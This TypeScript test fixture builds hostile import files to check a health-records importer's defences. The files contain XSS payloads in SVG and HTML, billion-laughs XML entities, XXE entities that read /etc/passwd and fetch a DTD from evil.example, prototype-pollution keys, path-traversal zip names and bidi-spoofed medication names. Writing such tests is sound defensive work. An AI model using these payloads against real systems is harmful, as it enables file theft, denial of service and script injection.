import { HOSTILE_JSON, HOSTILE_WORDS } from '#server/testing/hostile-values.ts'
import { epicDocument } from '#web/imports/formats/ccda/testing/epic.ts'
import { exportOf, record } from '#web/imports/testing/apple-export.ts'
import { zipOf } from './zip-of.ts'

const { markup, attribute, address, template } = HOSTILE_WORDS
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.hacked=true"><script>window.hacked=true</script></svg>`
const HTML = `<!doctype html>${markup}<iframe src="javascript:window.hacked=true"></iframe>`
const base64 = (text: string) => Buffer.from(text).toString('base64')

/** Names that turn what reads them around, and say nothing. */
const TURNED = '\u202eniripsA\u2066 10 mg \u2069'

/** A portal's record whose every text is an attack. */
export const hostileBundle = {
  resourceType: 'Bundle',
  type: 'collection',
  entry: [
    {
      ...{ resourceType: 'Patient', id: 'p', name: [{ text: markup, given: [markup], family: attribute }] },
      managingOrganization: { display: markup },
      text: { status: 'generated', div: `<div xmlns="http://www.w3.org/1999/xhtml">${markup}${SVG}</div>` },
      telecom: [{ system: 'url', value: address }],
      photo: [{ contentType: 'image/svg+xml', data: base64(SVG), url: address }],
    },
    ...[markup, attribute, address, template, TURNED].map((text, index) => ({
      ...{ resourceType: 'MedicationRequest', id: `m${index}`, status: 'active', authoredOn: '2025-03-01' },
      medicationCodeableConcept: { text, coding: [{ system: address, code: text, display: text }] },
      dosageInstruction: [{ text, patientInstruction: text }],
      note: [{ text }, { authorString: text, text: markup }],
    })),
    ...[markup, 'Sodium'].map((text, index) => ({
      ...{ resourceType: 'Observation', id: `o${index}`, status: 'final', code: { text } },
      effectiveDateTime: '2026-01-02',
      valueString: attribute,
      interpretation: [{ text: markup }],
      note: [{ text: markup }],
    })),
    { resourceType: 'Condition', id: 'c', code: { text: markup }, note: [{ text: template }] },
    {
      resourceType: 'AllergyIntolerance',
      id: 'a',
      code: { text: markup },
      reaction: [{ manifestation: [{ text: address }] }],
    },
    { resourceType: markup, id: 'x' },
    {
      ...{
        resourceType: 'DiagnosticReport',
        id: 'r',
        status: 'final',
        code: { text: markup },
        effectiveDateTime: '2026-01-02',
      },
      presentedForm: [
        { contentType: 'text/html', data: base64(HTML), title: markup },
        { contentType: 'image/svg+xml', data: base64(SVG), title: '../../etc/passwd' },
        { contentType: 'application/pdf', data: base64(HTML), title: 'report.pdf' },
        { contentType: 'text/html', url: address, title: address },
      ],
    },
    {
      ...{
        resourceType: 'DocumentReference',
        id: 'd',
        status: 'current',
        description: markup,
        date: '2026-01-02T10:00:00Z',
      },
      content: [{ attachment: { contentType: 'text/plain', data: base64(`Dear patient, ${markup}`), title: markup } }],
    },
  ].map(resource => ({ fullUrl: address, resource })),
}

const inXml = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')

/** Every word between tags, and every name in an attribute. */
const hostileDocument = epicDocument
  .replace(/>([^<>]*\p{L}[^<>]*)</gu, `>${inXml(markup)}<`)
  .replace(/displayName="[^"]*"/g, `displayName="${inXml(markup)}"`)

const LAUGHS = Array.from({ length: 12 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join(
  '',
)
const DOCTYPE = `<!DOCTYPE ClinicalDocument [<!ENTITY l0 "ha">${LAUGHS}<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY % net SYSTEM "https://evil.example/x.dtd">%net;]>`
const withEntities = epicDocument
  .replace(
    /(<\?xml[^>]*\?>)?/,
    `<?xml version="1.0"?><?xml-stylesheet href="javascript:window.hacked=true"?>${DOCTYPE}`,
  )
  .replace('Ankle sprain', 'Ankle &l12; &file; sprain')

const tableOf = (headers: string[], cells: string[]) =>
  [headers, cells].map(row => row.map(cell => `"${cell.replaceAll('"', '""')}"`).join()).join('\n')

const manifest = (files: object[]) =>
  JSON.stringify({ product: 'Wellkept', format: 1, version: markup, at: '2026-11-01T12:00:00Z', files })

const deep = `{"resourceType":"Bundle","entry":${'['.repeat(20_000)}${']'.repeat(20_000)}}`
const prototypes = JSON.stringify(hostileBundle)
  .replaceAll('"note":', '"__proto__":{"hacked":true},"constructor":{"prototype":{"hacked":true}},"note":')
  .replaceAll('"id":', '"toString":1,"valueOf":1,"hasOwnProperty":1,"id":')

const json = (value: unknown) => JSON.stringify(value)
const AT = '2026-11-01T10:00:00'
const bytesOf = (start: string, length: number) => {
  const bytes = new Uint8Array(length).fill(0xff)
  bytes.set(Buffer.from(start, 'latin1'))
  bytes.set(Buffer.from(markup), length / 2)
  return bytes
}

/** One of each app and device: its own places of names, with names that are attacks, and files that only seem to be its. */
export const hostileDevices = async (): Promise<[name: string, content: string | Uint8Array][]> => [
  [
    'fitbit.zip',
    await zipOf({
      'MyFitbitData/exercise-0.json': json([
        { logId: 1, activityName: markup, startTime: '11/01/26 10:00:00', duration: 1_800_000, __proto__: null },
      ]),
      'MyFitbitData/weight-2026-11-01.json': `[{"__proto__":{"hacked":true},"weight":80,"date":"11/01/26","time":${json(markup)}}]`,
      [`MyFitbitData/${markup} 2026-11-01.json`]: '[]',
      'MyFitbitData/profile.csv': tableOf(['id', markup], [markup, attribute]),
    }),
  ],
  [
    'garmin.zip',
    await zipOf({
      'DI_CONNECT/x/a_summarizedActivities.json': json([
        {
          summarizedActivitiesExport: [
            { beginTimestamp: 1_793_527_200_000, duration: 1_800_000, activityType: markup, name: markup },
          ],
        },
      ]),
      'DI_CONNECT/x/a_sleepData.json': `[{"constructor":{"prototype":{"hacked":true}},"calendarDate":${json(markup)}}]`,
      [`DI_CONNECT/x/UDSFile_${markup}.json`]: `${'['.repeat(20_000)}${']'.repeat(20_000)}`,
    }),
  ],
  [
    'google.zip',
    await zipOf({
      'Takeout/Fit/All Sessions/1.json': json({ fitnessActivity: markup, startTime: `${AT}Z`, endTime: `${AT}Z` }),
      'Takeout/Fit/Activities/1.tcx': `<?xml version="1.0"?>${DOCTYPE}<TrainingCenterDatabase>${inXml(markup)}</TrainingCenterDatabase>`,
      'Takeout/Fit/Daily activity metrics/2026-11-01.csv': `Start time,End time,Move Minutes count,${markup}\n${markup},x,1,2`,
    }),
  ],
  [
    'samsung.zip',
    await zipOf({
      'com.samsung.shealth.exercise.20261101.csv': `com.samsung.shealth.exercise,1,2\nexercise_type,start_time,duration,${markup}\n${markup},${AT},1800000,${attribute}`,
      [`com.samsung.health.${markup.replaceAll('/', '')}.csv`]: 'x,1\na\nb',
    }),
  ],
  [
    'withings.zip',
    await zipOf({
      'activities.csv': tableOf(
        ['from', 'to', 'Activity type', 'Data'],
        [AT, AT, markup, `{"__proto__":${json(markup)}}`],
      ),
      'raw_tracker_steps.csv': tableOf(['start', 'duration', 'value'], [markup, '[60]', '[1']),
    }),
  ],
  ['omron.csv', tableOf(['Date', 'Systolic (mmHg)', 'TruRead', markup], ['2026-11-01', '120', markup, attribute])],
  ['health_connect_export.db', bytesOf('SQLite format 3\0\x10\0\x01\x01\0\x40\x20\x20', 8192)],
  ['run.fit', bytesOf('\x0e\x10\0\0\xf0\x0f\0\0.FIT', 4096)],
  [
    'run.tcx',
    `<?xml version="1.0"?>${DOCTYPE}<TrainingCenterDatabase><Activities><Activity Sport="${inXml(attribute)}"><Id>${AT}Z</Id><Lap StartTime="${AT}Z"><TotalTimeSeconds>&l12;</TotalTimeSeconds></Lap><Notes>${inXml(markup)}</Notes></Activity></Activities></TrainingCenterDatabase>`,
  ],
]

/** Files that try to run something when they are read or shown, by the names that formats are recognized by. */
export const hostileImports = async (): Promise<[name: string, content: string | Uint8Array][]> => [
  ['record.json', JSON.stringify(hostileBundle)],
  ['prototypes.json', prototypes],
  ['deep.json', deep],
  ...Object.entries(HOSTILE_JSON)
    .filter(([name]) => /own prototype|deep objects|turns into/.test(name))
    .map(([name, text]): [string, string] => [`${name}.json`, `{"resourceType":"Bundle","entry":${text}}`]),
  ['record.xml', hostileDocument],
  ['entities.xml', withEntities],
  [
    'export.xml',
    exportOf(
      record(inXml(markup), inXml(attribute), inXml(markup)),
      record('HKQuantityTypeIdentifierBodyMass', 80, 'kg'),
    ).replace('<HealthData', `${DOCTYPE.replace('ClinicalDocument', 'HealthData')}<HealthData`),
  ],
  [
    'track.gpx',
    `<?xml version="1.0"?>${DOCTYPE}<gpx><trk><name>${inXml(markup)}&l12;</name><trkseg><trkpt lat="1" lon="1"><time>${inXml(markup)}</time></trkpt></trkseg></trk></gpx>`,
  ],
  [
    'table.csv',
    tableOf(['medicationName', '__proto__', 'constructor', markup], [markup, attribute, template, address]),
  ],
  ['readings.csv', tableOf(['Date', 'Weight (kg)', markup], ['2026-11-01', '80', markup])],
  ['names.zip', await zipOf({ '../../etc/passwd': 'x', [markup]: HTML, '__proto__/export.xml': SVG, 'x.html': HTML })],
  ['page.html', HTML],
  ['picture.svg', SVG],
  ['card.smart-health-card', JSON.stringify({ verifiableCredential: [markup, 'a.b.c', '__proto__'] })],
  [
    'backup.zip',
    await zipOf({
      'manifest.json': manifest([{ path: '../../etc/passwd', bytes: 1, count: 1, sha256: markup }]),
      '../../etc/passwd': 'x',
    }),
  ],
]
